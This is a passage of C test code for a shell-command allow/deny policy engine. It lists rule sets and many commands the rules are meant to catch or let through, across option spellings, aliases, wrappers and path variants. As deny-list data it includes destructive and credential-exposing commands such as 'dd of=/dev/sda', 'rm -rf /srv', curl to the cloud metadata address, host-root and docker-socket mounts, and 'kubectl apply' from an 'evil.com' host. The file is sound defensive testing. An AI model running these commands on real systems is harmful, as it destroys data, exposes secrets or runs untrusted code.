	"npm install evil.tgz", "npm install evil.tar.gz", "npm install EVIL.TGZ", "sudo pip install x.whl", "sudo pip install x.tar.gz", "sudo pip install x.zip",
	"dnf install -y x.rpm", "yum install -y x.rpm", "gem install ./x.gem", "gem install x.gem", "gem install a/x", "go install ./x", "go install .", "go install x.go",
	"cargo install .", "sudo snap install x.snap", "sudo apk add x.apk", "docker pull nginx:5000/evil", "podman pull app:5000/evil",
	"docker pull hub.corp.io:5000/app:1/x", "kubectl apply -f https://evil.com/x", "kubectl apply --filename=https://evil.com/x", "helm upgrade app oci://evil.com/x",
	"helm upgrade app https://evil.com/x.tgz", "sudo pip install 'x.whl[a]'", "podman push app.evil.com/x",
};

static const char *const fetched[] = {
	"npm install left-pad@1.2", "npm install @a/b@1.2", "npm run build.zip", "sudo pip install requests==2.31.0", "sudo pip install zope.interface",
	"sudo pip3 install x.whl", "dnf install -y nginx-1.2.x86_64", "gem install rails", "go install example.com/x@latest", "go test ./...", "cargo install ripgrep",
	"sudo snap install hello", "sudo apk add nginx", "docker pull nginx:1.25", "docker pull hub.corp.io:5000/app:1.2", "docker run --rm -v data:/data img",
	"kubectl apply -f x.yaml", "kubectl apply -f k8s/x.yaml", "kubectl apply --filename=x.yaml", "kubectl annotate svc x url=https://a/b",
	"helm upgrade app charts/app", "sudo helm repo add corp https://charts.corp.io", "helm upgrade app c --set url=https://a/b", "docker run -p 80:80/tcp img",
	"sudo pip install 'requests[socks]==2.31.0'", "podman push app-x:1",
};

/* The last operand as the place, units, and the working directory. */
static const char dirs[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly]\n"
	"rules:\n"
	"  - id: op\n"
	"    allow: [\"cp ** /srv/www/\", \"mv ** /srv/www/\", \"install ** /srv/www/\", \"cp -t /srv/app ** \", \"systemctl restart *\", \"git add *\"]\n";

static const char *const displaced[] = {
	"cp -t /srv/etc f /srv/www/", "cp --target-directory=/srv/etc f /srv/www/", "cp --targ /srv/etc f /srv/www/", "mv -t /srv/etc f /srv/www/",
	"mv -ft/srv/etc f /srv/www/", "install -t /srv/etc f /srv/www/", "cp -t /srv/app -t /srv/etc f", "systemctl restart 'a*'", "systemctl restart 'a?'",
	"systemctl restart '[a-z]'", "git add ./.", "git add .//", "git add ././", "git add .", "git add x/..",
};

static const char *const placed[] = {
	"cp f /srv/www/", "cp -r a b /srv/www/", "mv -f a b /srv/www/", "install -m 644 a /srv/www/", "cp -t /srv/app f", "systemctl restart nginx",
	"systemctl restart app@1.service", "git add x", "git add ./x", "git add .x/y",
};

static const char restricts[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly, core.protected-paths]\n"
	"rules:\n"
	"  - id: ok\n"
	"    allow: [\"rm **\", \"mv **\", \"cp **\", \"tar **\", \"chown **\", \"systemctl **\", \"rsync **\", \"chmod **\", \"find **\", \"apt-get **\", \"git **\", \"docker **\", \"kubectl **\", \"ln **\", \"install **\"]\n"
	"  - id: no\n"
	"    deny: [\"rm --recursive /srv/app/keep/**\", \"mv * /srv/live/**\", \"cp ** /srv/live/**\", \"tar ** /srv/secret/**\", \"cp /srv/secret/** **\", \"mv /srv/app/keep/** **\",\n"
	"           \"systemctl stop {ssh,db.service}\", \"systemctl {reboot,isolate} **\", \"systemctl mask web-*\", \"chown ** /srv/app/keep/**\", \"apt-get remove vim\", \"docker rm web\",\n"
	"           \"kubectl delete pod *\", \"rm /srv/one\", \"git clean **\", \"git push --force **\", \"docker run --privileged **\"]\n";

/* Tools that no table knows, that run something else, or whose options the tables do not have. */
static const char loose[] =
	"version: 1\n"
	"profile: guard\n"
	"rules:\n"
	"  - id: no\n"
	"    deny: [\"sudo -u postgres **\", \"ssh prod-* **\", \"docker exec prod-* **\", \"kubectl exec ** -n prod **\", \"terraform destroy **\", \"aws s3 rm **\", \"make deploy\", \"psql -c **\",\n"
	"           \"python3 /opt/x.py **\", \"bash /opt/danger.sh **\", \"umount /srv/data\", \"app-ctl drop *\", \"rsync --delete **\", \"git reset --hard **\", \"docker run --privileged **\",\n"
	"           \"/opt/x/run **\", \"app-rm -rf **\", \"app --mode=raw **\", \"strace\", \"git push --force **\", \"git push -d **\", \"curl -k **\", \"make -C /srv/app **\",\n"
	"           \"usermod --groups sudo **\", \"docker run -v / **\"]\n";

static const char *const evaded[] = {
	"sudo -u postgres ls", "sudo -n -u postgres ls", "sudo -upostgres ls", "sudo -nu postgres ls", "sudo --user=postgres ls", "sudo --user postgres ls", "ssh prod-1 ls", "ssh -q prod-1 ls", "ssh -p 22 prod-1 ls", "ssh root@prod-1 ls",
	"ssh ssh://prod-1 ls", "ssh -p22 -q prod-1", "docker exec -it prod-db ls", "docker container exec prod-db ls", "docker exec --user x prod-db ls", "kubectl -n prod exec db -- ls", "kubectl exec db -nprod -- ls",
	"kubectl exec --namespace x db -n prod -- ls", "terraform -chdir=/srv destroy", "terraform destroy", "terraform destroy -auto-approve", "aws --region x s3 rm s3://a", "aws s3 --quiet rm s3://a", "make -j4 deploy", "make deploy clean",
	"psql -d app -c x", "psql -Atc x", "python3 -B /opt/x.py", "python3 -B /opt/x.py a", "cd /opt && python3 x.py", "bash -e /opt/danger.sh", "umount -l /srv/data", "umount /srv/data -l", "app-ctl -v drop x", "app-ctl --config x drop y", "rsync -a --delete a b",
	"rsync -a a b --delete", "git reset --har", "git reset HEAD --hard", "git reset --hard=x", "docker run --privileged=true x", "docker run -d --privileged x", "docker container run --privileged x", "/opt/x/run", "/opt/x/../x/run a",
	"cd /opt/x && ./run a", "cd /opt && x/run", "app-rm -r -f x", "app-rm -fr x", "app-rm -vrf x", "app --mode=raw", "app --mod=raw", "app x --mode raw", "git push -f", "git push origin -f main", "git push --forc", "git push --delete o b", "git push --dele o b",
	"curl http://a --insecure", "curl -sk http://a", "make --directory=/srv/app x", "make --directory /srv/app", "make x -C/srv/app", "usermod -aG sudo x", "usermod -a -G sudo x", "docker run --volume / x", "docker run --volume=/ x", "for h in prod-1 prod-2; do ssh -q $h ls; done",
};

static const char *const clear[] = {
	"sudo -u app ls", "sudo ls", "ssh dev-1 ls", "ssh -q dev-1 cat prod-1", "ssh dev-1 prod-1", "docker exec -it dev-db ls prod-x", "docker exec dev-db ls", "kubectl exec db -n dev -- ls", "kubectl get pod -n prod", "terraform plan",
	"terraform -chdir=/srv plan", "aws s3 ls", "aws ec2 rm", "make clean", "make -j4 clean", "psql -d app -f x", "python3 -B /opt/y.py", "python3 /srv/opt/x.py", "bash -e /opt/x.sh", "umount /srv/dat", "app-ctl -v list", "app-ctl list drop",
	"rsync -a a b", "git reset HEAD", "git reset --soft x", "docker run -p 80:80 x", "docker run x --help", "/opt/x/runner", "/opt/y/run", "cd /opt/y && ./run", "app-rm -r x", "app-rm x", "app --mode=cooked", "app --model=raw", "git push", "git push --tags", "git fetch -f", "curl http://a", "make -C /srv/x y", "usermod -aG adm x", "docker run -v /srv x", "strace -V ls",
};

static const char *const caught[] = {
	/* one of several, and behind an option that no table knows */
	"systemctl stop nginx ssh", "systemctl stop ssh nginx", "systemctl stop nginx ssh app", "systemctl mask a web-1 b", "apt-get remove nano vim", "docker rm a web", "git -C /x push --force", "git push origin --force", "git push --force origin main", "docker run -it --privileged web", "docker -H x run --privileged web", "rm a /srv/one b",
	"systemctl --message x reboot", "systemctl --message x stop ssh", "systemctl --message status reboot", "systemctl --message x reboot --no-wall", "git --foo x clean --bar", "systemctl reboot x", "git --foo x clean -f", "kubectl delete pod a b",
	/* units are globs, and services without saying so */
	"systemctl stop 'ssh*'", "systemctl stop '*'", "systemctl stop 's[s]h'", "systemctl stop ss?", "systemctl stop ssh.service", "systemctl stop db", "systemctl stop 'd?'",
	"systemctl stop 'db.*'", "systemctl mask '*-1'", "systemctl mask web-1.service", "systemctl stop nginx 'ssh.s*'",
	/* the same path by other words */
	"mv -t /srv/live x", "mv --target-directory=/srv/live x y", "cp -t /srv/live/a x", "cp -r x -t /srv/live", "tar -C /srv/secret -cf x a",
	"cd /srv && tar -cf x secret/a", "rm -r /srv/app", "rm -rf /srv", "rm -rf /srv/app/", "cd /srv && rm -r app", "rm -r /srv/app/keep/x", "rm -r /srv/app/k*", "chown -R x /srv/app",
	"mv x /srv/live", "mv a b /srv/live/", "cp /srv/secret/a /tmp", "mv /srv/app/keep/a /tmp", "cp -t /tmp /srv/secret/a", "rm -r x /srv/app/keep",
};

static const char *const passed[] = {
	"systemctl stop nginx", "systemctl stop nginx app", "systemctl stop ssh.socket", "systemctl status ssh", "systemctl restart ssh", "systemctl start ssh db", "systemctl status reboot",
	"systemctl stop 'app*'", "systemctl stop 'n?inx'", "systemctl mask app web", "systemctl status reboot.target", "systemctl stop reboot", "systemctl stop sshd-keygen",
	"mv x /srv/app", "mv -t /srv/app x", "mv /srv/live/x /tmp", "cp -t /srv/app x",
	"tar -C /srv -cf x app", "tar -C /srv/app -cf x secret", "tar -xf x -C /srv/app", "rm -r /srv/app/cache", "rm -r /srv/app/keeper", "rm /srv/app/keep/x",
	"rm -r build", "rm -rf ./build", "rm -rf /tmp/x", "cd /srv/app && rm -r cache/x", "chown x /srv/app/cache", "chown -R x /srv/app/cache", "apt-get remove nano", "apt-get install vim",
	"docker rm a", "docker stop web", "docker logs web", "kubectl delete svc a", "kubectl get pod a", "rm /srv/two", "rm one", "rm -r /srv/ap", "rm -r /opt/srv/app", "git status", "git log clean", "git push origin main", "git -C /x push", "git fetch --force", "docker run -it web", "docker exec web ls",
	"cp -r a b", "cp -r build /srv/app", "mv a b", "ln -s /srv/live/x y", "install x /srv/app/y",
};

/* What names the same program, the same script, the same option, and what a wrapper runs. */
static const char ways[] =
	"version: 1\n"
	"profile: guard\n"
	"rules:\n"
	"  - id: no\n"
	"    deny: [\"kubectl -n prod **\", \"kubectl --context prod **\", \"/usr/bin/docker rm **\", \"/sbin/reboot\", \"/usr/sbin/iptables -F\", \"/bin/rm -rf **\", \"./manage.py flush\", \"ssh prod-* rm **\", \"sudo rm **\",\n"
	"           \"timeout * rm **\", \"docker exec prod-* rm **\", \"sudo -u postgres dropdb **\", \"python3 manage.py flush **\", \"bash scripts/wipe.sh\", \"helm -n prod uninstall **\", \"~/bin/wipe **\"]\n";

static const char *const found[] = {
	"kubectl -n prod get pod", "kubectl get secret x -n prod", "kubectl logs x -n prod", "kubectl rollout status x -n prod", "kubectl get secret x -nprod", "kubectl get secret x --namespace=prod",
	"kubectl get pods --context prod", "kubectl get --context=prod pods", "docker rm x", "/bin/docker rm x", "/usr/local/bin/docker rm x", "cd /usr/bin && ./docker rm x", "reboot", "/usr/sbin/reboot", "iptables -F", "sudo iptables -F",
	"rm -rf x", "rm -fr x", "/usr/bin/rm -rf x", "./manage.py flush", ".//manage.py flush", "././manage.py flush", "cd x && ../manage.py flush", "~/manage.py flush", "~/bin/wipe x",
	"ssh prod-1 rm x", "ssh prod-1 'rm x'", "ssh prod-1 \"rm -rf x\"", "ssh prod-1 /bin/rm x", "ssh prod-1 env rm x", "ssh -q root@prod-1 'ls; rm x'", "sudo rm x", "sudo /bin/rm x", "sudo nice rm x", "sudo env rm x",
	"sudo A=b rm x", "sudo sh -c 'rm x'", "sudo -n sh -c 'cd /x && rm y'", "timeout 5 /bin/rm x", "timeout 5 nice rm x", "timeout -k 9 5 sh -c 'rm x'", "docker exec -it prod-db sh -c 'rm x'", "docker exec prod-db /bin/rm x",
	"sudo -u postgres env dropdb x", "sudo -u postgres sh -c 'dropdb x'", "python3 ./manage.py flush", "python3 /srv/manage.py flush", "bash ./scripts/wipe.sh", "bash scripts//wipe.sh", "cd scripts && bash wipe.sh",
};

static const char *const free_[] = {
	"kubectl get pod -n dev", "kubectl -n dev logs x", "kubectl get pods --context dev", "docker ps", "/opt/x/docker rm x", "/opt/sbin/reboot", "./reboot", "iptables -L", "rm -r x", "./manage.py migrate", "./x/manage.py2 flush", "~/manage2.py flush", "~/bin/x",
	"ssh dev-1 'rm x'", "ssh dev-1 rm x", "ssh prod-1 'ls rm'", "ssh prod-1 ls", "rm x", "sudo ls rm", "sudo sh -c 'ls x'", "sudo ls; rm x", "nice rm x", "timeout 5 ls rm", "docker exec dev-db sh -c 'rm x'",
	"docker exec prod-db ls rm", "sudo -u app dropdb x", "sudo -u postgres ls", "python3 ./manage.py migrate", "python3 manage2.py flush", "bash wipe.sh", "bash scripts/wipe2.sh",
};

/* More operands, in any order, of what the tables do not read. */
static const char more[] =
	"version: 1\n"
	"profile: guard\n"
	"rules:\n"
	"  - id: no\n"
	"    deny: [\"umount /srv/data\", \"make deploy\", \"dd of=/dev/sda **\", \"ansible-playbook prod.yml **\", \"app wipe /srv/x/**\", \"kill 1\", \"kill -9 2\", \"aws s3 rm **\", \"ssh prod-* **\", \"docker exec prod-* ls\",\n"
	"           \"terraform state rm **\", \"nice app-x y\"]\n";

static const char *const among[] = {
	"umount /mnt /srv/data", "umount /srv/data /mnt", "umount -l /mnt /srv//data", "make clean deploy", "make V=1 deploy", "make -j 4 clean deploy", "make deploy clean", "dd if=/x of=/dev/sda", "dd of=//dev/sda",
	"cd /dev && dd of=sda", "dd bs=1 of=/dev/sda if=/x", "ansible-playbook a.yml prod.yml", "ansible-playbook ./prod.yml", "ansible-playbook -i x a.yml prod.yml -v", "app wipe /srv/y /srv/x", "app wipe a=/srv/x/y",
	"app wipe a:/srv/x/y", "kill 2 1", "kill 1 2", "kill -9 3 2", "kill -9 2 3", "aws s3 rm x", "aws s3 --quiet a rm", "terraform state x rm y", "ssh prod-1 ls", "docker exec prod-1 ls", "nice app-x y", "nice -n 5 app-x y",
};

static const char *const apart[] = {
	"umount /mnt /srv/dat", "make clean", "make -j 4 clean", "dd if=/dev/sda of=/x", "dd of=/dev/sdab", "ansible-playbook a.yml", "ansible-playbook ./a.yml", "app list wipe /srv/x", "app wipe /srv/y", "app wipe http://srv/x/y",
	"kill 2 11", "kill -HUP 2", "aws ec2 rm", "aws s3 ls", "ssh dev-1 prod-1", "ssh dev-1 ls prod-1", "docker exec dev-db ls prod-x", "docker exec dev-db ls", "terraform plan", "app-x z",
};

/* Names of options and subcommands, arguments of options, and whose option one is. */
static const char names[] =
	"version: 1\n"
	"profile: guard\n"
	"rules:\n"
	"  - id: no\n"
	"    deny: [\"sudo -i **\", \"env -i **\", \"ssh -R **\", \"kubectl exec ** -n prod **\", \"sudo -u postgres **\", \"psql -c **\", \"curl -k **\", \"app -f **\", \"git -C /srv/x **\", \"ip -n blue **\",\n"
	"           \"docker -H tcp://x **\", \"helm -n prod **\", \"nft -f **\", \"cp ** /etc/**\", \"mv /srv/live/** **\", \"ip route del **\", \"docker container rm web\", \"docker logs secret\", \"docker rm -f **\", \"podman rm -f **\",\n"
	"           \"git clean -fd\", \"su - **\", \"curl *internal*\", \"curl http://169.254.169.254/**\", \"curl -o /srv/live/** **\", \"kubectl apply -f /srv/prod/**\", \"** -rf /srv/**\", \"git push -n **\", \"cp secret.txt **\"]\n";

static const char *const meant[] = {
	"sudo -i", "sudo -i ls", "sudo -ni ls", "sudo -u x -i ls", "sudo -i -u nginx ls", "env -i ls", "env A=b -i ls", "ssh -R 1 dev ls", "ssh dev -R 1", "ssh -NR 1 dev", "kubectl exec db -n prod -- ls", "sudo -u postgres ls", "sudo -upostgres ls",
	"psql -c x", "psql -Atc x", "psql -U scott -c x", "psql -Uscott -c x", "curl -k http://a", "curl -sk http://a", "app -f", "app -xf", "app -x -- -f", "git -C /srv/x status", "git -C /srv/x lfs pull", "ip -n blue addr", "ip -n blue foo",
	"docker -H tcp://x buildx build .", "docker -H tcp://x ps", "helm -n prod template x", "helm template x -n prod", "nft -f x", "nft -cf x", "cp a /etc/x", "cp a b /etc", "cp -t /etc a", "mv /srv/live/a /tmp", "mv a /srv/live/b /tmp",
	"ip route del x", "ip r del x", "ip ro delete x", "ip -4 r d x", "docker rm web", "docker container rm web", "docker logs secret", "docker container logs secret", "docker rm -f x", "docker rm --force x", "docker container rm --force x",
	"git clean -fd", "git clean --force -d", "git clean -d -f", "su -", "su -l x", "su --login", "su - x", "curl http://internal/", "curl --url http://internal/", "curl -x http://internal/ a", "curl --url http://169.254.169.254/x",
	"curl -o /srv/live/x http://a", "curl --output-dir /srv/live -o x http://a", "kubectl apply -f /srv/prod/x", "kubectl apply -f /tmp/a,/srv/prod/x", "kubectl apply --filename /srv/prod/x", "kubectl apply --filename=/srv/prod/x", "podman rm --force x", "rm -rf /srv/x", "rm -fr /srv/x", "rm -r -f a /srv/x", "git push -n", "cp a secret.txt /tmp", "cp secret.txt /tmp",
};

static const char *const other[] = {
	"sudo sed -i s/a/b/ f", "sudo ls -i", "sudo grep -i x f", "sudo -n -- ls -i", "env ls -i", "env A=b ls -i", "ssh dev ls -R", "ssh dev ls -lAhR", "kubectl exec db -n dev -- grep prod", "sudo -u app echo postgres", "psql -Uscott -f x",
	"psql -dcustomers -f x", "sudo -unginx ls", "curl -okay http://a", "app -- -f", "app -x y -- -f", "git lfs pull", "git -C /srv/y lfs pull", "ip addr", "ip -n red addr", "docker buildx build .", "helm template x", "nft -c x", "cp /etc/hosts /tmp",
	"cp -r /etc/x /srv/y", "mv /tmp/a /srv/live/", "ip r add x", "ip r", "ip a", "docker rm a", "docker container rm a", "docker logs web", "docker container logs web", "docker ps", "git clean -n", "git clean -d", "su x", "curl http://external/",
	"curl --url http://a", "curl -o /srv/lives http://a", "kubectl apply -f /tmp/a", "rm -r /srv/x", "rm -rf /tmp/x", "git push --no-verify", "cp a b.txt /tmp",
};

static const char objects[] = "version: 1\nrules:\n"
	"  - { id: a, allow: [\"kubectl **\"] }\n"
	"  - { id: d, deny: [\"kubectl delete deployment web\", \"kubectl delete namespace prod **\", \"kubectl get secret **\", \"kubectl scale deployment/api **\"] }\n";
static const char *const named[] = {
	"kubectl delete deployment web", "kubectl delete deploy web", "kubectl delete deployment/web", "kubectl delete deployments web",
	"kubectl delete deployment.apps/web", "kubectl delete deployment.v1.apps web", "kubectl -n dev delete deploy/web", "kubectl delete --wait=false deploy web",
	"kubectl delete ns prod", "kubectl delete ns/prod", "kubectl delete pods,ns prod", "kubectl get secrets",
	"kubectl get secret x -o yaml", "kubectl get secret/x", "kubectl get pods,secrets", "kubectl get Secret",
	"kubectl get secret.v1.", "kubectl get po,secret/x", "kubectl scale deploy api --replicas=0", "kubectl scale --replicas=0 deploy/api",
	"kubectl scale deployments.apps api --replicas=0",
};
static const char *const unnamed[] = {
	"kubectl get pods", "kubectl delete deployment api", "kubectl delete deploy/web2", "kubectl get configmap secret-x",
	"kubectl delete ns dev", "kubectl scale deploy web --replicas=2", "kubectl get po", "kubectl logs deploy/web",
	"kubectl apply -f /srv/k8s/deployment.yaml", "kubectl get services",
};

/* A restriction, what is of it and what is not. */
struct said {
	const char *rule, *no[20], *yes[12];
};

static void said_all(const struct said *said, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		char text[512];
		size_t no = 0, yes = 0;

		while (no < COUNT(said->no) && said[i].no[no] != NULL)
			no++;
		while (yes < COUNT(said->yes) && said[i].yes[yes] != NULL)
			yes++;
		snprintf(text, sizeof(text), "version: 1\nprofile: guard\nrules:\n  - { id: no, deny: [\"%s\"] }\n", said[i].rule);
		ask_all(text, said[i].no, no, said[i].yes, yes);
	}
}

/* A path with a star, or before a colon, of programs whose words need not be paths. */
static const struct said as_text[] = {
	{ "docker run -v /:* **",
		{ "docker run -v /:/host x", "docker run --volume /:/host x", "docker run -v/:/h x", "docker run --volume=/:/h x", "docker run -v //:/h x",
		  "docker run -v /srv/..:/h x" },
		{ "docker run -v /srv:/h x", "docker run -v /srv/a:/:x y" } },
	{ "docker run -v /var/run/docker.sock:* **",
		{ "docker run -v /var/run/docker.sock:/var/run/docker.sock x", "docker run -d -v /var/run//docker.sock:/x y" },
		{ "docker run -v /var/run/x:/var/run/docker.sock y" } },
	{ "docker run -v /etc:* **",
		{ "docker run -v /etc:/host/etc:ro x" },
		{ "docker run -v /etcd:/x y", "docker run -v /etc/app:/etc x" } },
	{ "kubectl get --raw /api/*",
		{ "kubectl get --raw /api/v1/secrets", "kubectl get --raw=/api/v1/x/y" },
		{ "kubectl get --raw /version", "kubectl get pods" } },
	{ "vault read /secret/*",
		{ "vault read /secret/a/b", "vault read -field x /secret/a/b" },
		{ "vault read /public/a" } },
	{ "gh api /repos/* **",
		{ "gh api /repos/a/b/c", "gh api -X DELETE /repos/a/b" },
		{ "gh api /user" } },
	{ "rm /srv/*",
		{ "rm /srv/a", "rm -r /srv" },
		{ "rm /srv/a/b" } },
	{ "cp ** /etc/*",
		{ "cp a /etc/b" },
		{ "cp a /etc/x/b" } },
	{ "chmod 777 /srv/*",
		{ "chmod 777 /srv/a" },
		{ "chmod 777 /srv/a/b" } },
};

/* A host behind a user or a scheme. */
static const struct said hosts[] = {
	{ "scp * prod-*:*",
		{ "scp x '[prod-1]:/y'", "scp x 'u@[prod-1]:/y'", "scp x prod-1:/y", "scp x u@prod-1:/y", "scp x scp://prod-1/y", "scp x scp://u@prod-1:22/y", "scp -q x u@prod-1:" },
		{ "scp x dev:/y", "scp x u@dev:/prod-1:/y", "scp prod-1:/y .", "scp x scp://dev/y", "scp x '[dev]:/prod-1:y'" } },
	{ "scp * prod-1:*",
		{ "scp x SCP://prod-1/y", "scp x u@prod-1:/y" },
		{ NULL } },
	{ "rsync * prod-*:* **",
		{ "rsync -a x u@prod-1:/y", "rsync x rsync://prod-1/x", "rsync x rsync://u@prod-1:873/x", "rsync -a x prod-1::m" },
		{ "rsync -a x dev:/y", "rsync -a x rsync://dev/prod-1" } },
};

/* Operands that are alike, in any order, and make's signs of assignment. */
static const struct said sets[] = {
	{ "make deploy ENV=prod **",
		{ "make ENV=prod deploy", "make deploy ENV=prod", "make -s ENV:=prod deploy", "make deploy ENV::=prod", "make ENV+=prod deploy",
		  "make clean ENV=prod deploy -j4", "make 'ENV = prod' deploy" },
		{ "make ENV=dev deploy", "make ENV=prod clean", "make deploy", "make deploy ENV=production", "make deploy MYENV=prod" } },
	{ "make deploy ENV=prod",
		{ "make ENV=prod deploy", "make deploy x ENV=prod" },
		{ "make deploy ENV=dev" } },
	{ "make deploy env=prod",
		{ "make env=prod deploy" },
		{ NULL } },
	{ "make * deploy",
		{ "make x deploy" },
		{ "make deploy" } },
	{ "just deploy prod",
		{ "just deploy prod", "just -q deploy prod" },
		{ "just deploy dev" } },
};

/* One dash or two. */
static const struct said dashes[] = {
	{ "terraform apply -destroy **",
		{ "terraform apply --destroy", "terraform apply -destroy", "terraform apply -auto-approve -destroy", "terraform apply --destroy=true" },
		{ "terraform apply", "terraform apply -no-destroy", "terraform plan -destroy" } },
	{ "terraform destroy -auto-approve **",
		{ "terraform destroy --auto-approve", "terraform -chdir=x destroy --auto-approve" },
		{ "terraform destroy" } },
	{ "terraform apply --lock=false **",
		{ "terraform apply -lock=false", "terraform apply --lock=false" },
		{ "terraform apply -lock=true" } },
	{ "terraform apply -target **",
		{ "terraform apply --target=x", "terraform apply --target x" },
		{ "terraform apply -var x" } },
	{ "packer build -force **",
		{ "packer build --force x" },
		{ "packer build x" } },
};

/* What git push is given. */
static const struct said refs[] = {
	{ "git push * main",
		{ "git push origin main", "git push origin HEAD:main", "git push origin +main", "git push origin refs/heads/main", "git push origin main:main",
		  "git push --all origin", "git push origin --mirror", "git push -u origin x:refs/heads/main", "git push origin x main", "git push origin :",
		  "git push origin 'refs/heads/*'", "git push origin :main" },
		{ "git push origin maint", "git push origin main:x", "git push origin feature/main", "git push origin", "git push", "git push --tags origin",
		  "git push origin refs/tags/main" } },
	{ "git push origin main",
		{ "git push origin HEAD:main", "git push -f origin +HEAD:main", "git push origin --all" },
		{ "git push origin x", "git push backup main", "git pull origin main", "git push backup --all" } },
	{ "git push * refs/heads/main",
		{ "git push o main", "git push o x:main" },
		{ "git push o x" } },
	{ "git push --force **",
		{ "git push origin +main", "git push -f", "git push origin +HEAD:main", "git push --mirror o", "git push o x +y" },
		{ "git push origin main", "git push --force-with-lease o main", "git push origin a:b", "git pull o +main:x" } },
	{ "git push -f **",
		{ "git push origin +main", "git push o -fu main" },
		{ "git push o main" } },
	{ "git push --delete **",
		{ "git push origin :x", "git push -d origin x", "git push origin --delete x", "git push origin +:x" },
		{ "git push origin x", "git push origin x:y", "git push origin :" } },
	{ "git push --delete origin main",
		{ "git push origin :main", "git push origin -d main" },
		{ "git push origin :x" } },
	{ "git push -f origin main",
		{ "git push -f --all origin", "git push --mirror origin", "git push origin +main", "git push -f origin x:main" },
		{ "git push -f origin x", "git push origin main" } },
	{ "git push * *:main",
		{ "git push o x:main", "git push o main" },
		{ "git push o main:x" } },
	{ "git push * :*",
		{ "git push o :x" },
		{ "git push o x:y", "git push o x" } },
	{ "git push -u **",
		{ "git push -u o x" },
		{ "git push o +x" } },
};

/* Other names of a subcommand. */
static const struct said other_names[] = {
	{ "git branch -D **",
		{ "git branch -D x", "git branch -df x", "git branch -d -f x", "git branch --delete --force x", "git branch -fd x", "git branch -d x --force" },
		{ "git branch -d x", "git branch -f x y", "git branch" } },
	{ "git branch -D main",
		{ "git branch -df main" },
		{ "git branch -df x" } },
	{ "git branch -M **",
		{ "git branch -mf a b", "git branch --move --force a b" },
		{ "git branch -m a b" } },
	{ "git commit --no-verify **",
		{ "git commit -n", "git commit -nm x", "git commit -an -m x", "git commit -m x --no-verify", "git -C x commit -n", "git commit --no-veri" },
		{ "git commit -m new", "git commit -mnew", "git commit -am 'a -n'", "git commit -m x -- -n", "git commit" } },
	{ "git commit -n **",
		{ "git commit --no-verify -m x" },
		{ NULL } },
	{ "docker volume rm **",
		{ "docker volume remove x", "docker volume rm x", "sudo docker volume remove x" },
		{ "docker volume ls", "docker network remove x" } },
	{ "docker rm -f **",
		{ "docker remove -f x", "docker container remove -f x", "docker container rm --force x", "docker rm -vf x" },
		{ "docker rm x", "docker remove x" } },
	{ "docker compose down -v **",
		{ "docker compose down --volumes", "docker compose -f x down --volumes" },
		{ "docker compose down", "docker compose up --volumes" } },
	{ "docker system prune -a **",
		{ "docker system prune --all", "docker system prune -af" },
		{ "docker system prune" } },
	{ "docker rmi **",
		{ "docker image rm x", "docker image remove x", "docker rmi x", "docker image rm -f x" },
		{ "docker rm x", "docker image ls", "docker images" } },
	{ "docker image rm **",
		{ "docker rmi x", "docker image remove x" },
		{ "docker rm x" } },
	{ "docker run --privileged **",
		{ "docker create --privileged x", "docker container create --privileged x", "docker container run --privileged x" },
		{ "docker create x" } },
	{ "podman rmi **",
		{ "podman image rm x" },
		{ NULL } },
	{ "npm run deploy",
		{ "npm run-script deploy", "npm rum deploy", "npm urn deploy", "npm run deploy", "npm --silent run-script deploy" },
		{ "npm run build", "npm run-script build", "npm deploy" } },
	{ "npm install **",
		{ "npm i x", "npm add x", "npm install", "npm in x", "npm inst x" },
		{ "npm run i", "npm run add", "npm test", "npm uninstall x" } },
	{ "npm install -g **",
		{ "npm i -g x", "npm add x --global" },
		{ "npm i x" } },
	{ "npm publish **",
		{ "npm pub", "npm publ x" },
		{ "npm pack" } },
	{ "npm uninstall **",
		{ "npm rm x", "npm un x", "npm remove x" },
		{ "npm install x" } },
	{ "helm uninstall **",
		{ "helm delete x", "helm del x", "helm un x", "helm -n a delete x", "helm delete x -n y" },
		{ "helm list", "helm upgrade x y", "helm install x y" } },
	{ "helm uninstall app",
		{ "helm delete app", "helm delete x app" },
		{ "helm delete x" } },
	{ "systemctl restart nginx",
		{ "systemctl try-restart nginx", "systemctl reload-or-restart nginx", "systemctl condrestart nginx", "systemctl try-reload-or-restart nginx",
		  "systemctl force-reload nginx", "systemctl restart nginx.service", "systemctl --no-block try-restart x nginx", "systemctl try-restart 'ngin*'" },
		{ "systemctl restart x", "systemctl reload nginx", "systemctl status nginx", "systemctl try-restart x" } },
	{ "systemctl stop nginx",
		{ "systemctl disable --now nginx", "systemctl disable nginx --now", "systemctl condstop nginx", "systemctl mask --now nginx",
		  "systemctl --now disable nginx.service" },
		{ "systemctl disable nginx", "systemctl start nginx", "systemctl enable --now nginx", "systemctl disable --now x" } },
	{ "systemctl start nginx",
		{ "systemctl enable --now nginx" },
		{ "systemctl enable nginx", "systemctl disable --now nginx" } },
	{ "systemctl stop **",
		{ "systemctl disable --now x" },
		{ "systemctl disable x" } },
	{ "ssh prod-* docker rmi **",
		{ "ssh prod-1 docker image rm x", "ssh prod-1 'docker image rm x'" },
		{ "ssh prod-1 docker rm x", "ssh dev docker image rm x" } },
	{ "sudo docker rmi **",
		{ "sudo docker image rm x", "sudo docker rmi x" },
		{ "sudo docker rm x" } },
	{ "sudo systemctl stop nginx",
		{ "sudo systemctl disable --now nginx", "sudo systemctl stop nginx" },
		{ "sudo systemctl disable nginx" } },
	{ "terraform destroy **",
		{ "terraform apply -destroy", "terraform apply --destroy -auto-approve" },
		{ "terraform apply", "terraform plan -destroy" } },
};

/* Signals by number and by name. */
static const struct said signals[] = {
	{ "sudo kill -9 **",
		{ "sudo kill -KILL 5" },
		{ "sudo kill -HUP 5" } },
	{ "kill -9 **",
		{ "kill -KILL 5", "kill -SIGKILL 5", "kill -s 9 5", "kill -n 9 5", "kill -s KILL 5", "kill -sKILL 5", "kill -9 5", "kill -kill 5", "kill -s kill 5",
		  "kill -s09 5" },
		{ "kill 9", "kill -HUP 9", "kill -15 9", "kill -s TERM 9", "kill -l", "kill 5" } },
	{ "kill -KILL **",
		{ "kill -9 5", "kill -s 9 5", "kill -SIGKILL 5" },
		{ "kill -15 5", "kill -19 5" } },
	{ "kill -s KILL **",
		{ "kill -9 5", "kill -KILL 5", "kill -s 9 5" },
		{ "kill -s HUP 5" } },
	{ "kill -9 2",
		{ "kill -KILL 2", "kill -9 3 2", "kill -s KILL 3 2" },
		{ "kill -KILL 3" } },
